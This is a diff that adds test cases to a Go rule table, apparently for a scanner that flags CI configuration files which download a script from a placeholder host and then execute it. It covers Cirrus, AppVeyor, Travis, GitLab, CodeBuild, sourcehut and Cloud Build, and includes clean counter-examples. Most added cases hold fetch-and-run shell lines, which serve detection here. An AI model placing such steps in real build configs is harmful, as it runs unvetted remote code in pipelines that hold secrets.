@@ -98,6 +98,20 @@ var registry = []Rule{
 		{"x.sh", "curl -fsSL \\\n  https://x.invalid/i \\\n  | bash", 3, false},
 		{"x.sh", "S=$(curl -s https://x.invalid/s)\necho ok\necho ok\neval \"$S\"", 4, false},
 		{"x.sh", "curl -sLo /tmp/t https://x.invalid/t\nbash /tmp/t", 2, false},
+		// Every CI system's own script keys are shell, one flow per file:
+		// Cirrus's *_script, AppVeyor's on_finish, Travis's
+		// before_deploy, GitLab's runner hooks, CodeBuild's finally,
+		// sourcehut's named tasks, Cloud Build's args to sh -c.
+		{".cirrus.yml", "task:\n  container:\n    image: rust:latest\n  fetch_script: curl -fsSL -o /tmp/t.sh https://x.invalid/t\n  warm_script: sh /tmp/t.sh", 5, false},
+		{"appveyor.yml", "image: Ubuntu2204\nbuild_script:\n  - make\non_finish:\n  - sh: curl -sLo t.sh https://x.invalid/t\n  - sh: bash t.sh", 6, false},
+		{".travis.yml", "language: go\nbefore_deploy:\n  - wget -q -O /tmp/d https://x.invalid/d\n  - chmod +x /tmp/d && /tmp/d", 4, false},
+		{".gitlab-ci.yml", "test:\n  hooks:\n    pre_get_sources_script:\n      - curl -sSfo /tmp/h https://x.invalid/h\n      - . /tmp/h\n  script:\n    - make test", 5, false},
+		{"buildspec.yml", "version: 0.2\nphases:\n  build:\n    commands:\n      - make\n    finally:\n      - curl -s -o /tmp/f https://x.invalid/f\n      - bash /tmp/f", 8, false},
+		{".builds/debian.yml", "image: debian/stable\nsources:\n  - https://git.sr.ht/~x/y\ntasks:\n  - setup: |\n      curl -fsSL -o /tmp/s https://x.invalid/s\n      bash /tmp/s", 7, false},
+		{"cloudbuild.yaml", "steps:\n  - name: gcr.io/cloud-builders/gcloud\n    entrypoint: bash\n    args: ['-c', 'curl -s -o /tmp/c https://x.invalid/c && bash /tmp/c']", 4, false},
+		// The same systems building the change: nothing fetched is run.
+		{".builds/debian.yml", "image: debian/stable\npackages:\n  - golang\nsources:\n  - https://git.sr.ht/~x/y\ntasks:\n  - build: |\n      cd y\n      go build ./...\n  - test: cd y && go test ./...", 0, true},
+		{".cirrus.yml", "task:\n  container:\n    image: rust:latest\n  cargo_cache:\n    folder: $CARGO_HOME/registry\n  build_script: cargo build\n  test_script: cargo test", 0, true},
 		{"x.sh", "curl -fsSLo tool.tgz https://x.invalid/tool.tgz", 0, true},
 		// A RUN here-document is the build shell's script, continued lines
 		// and all; one that checks a sum before it unpacks runs nothing.
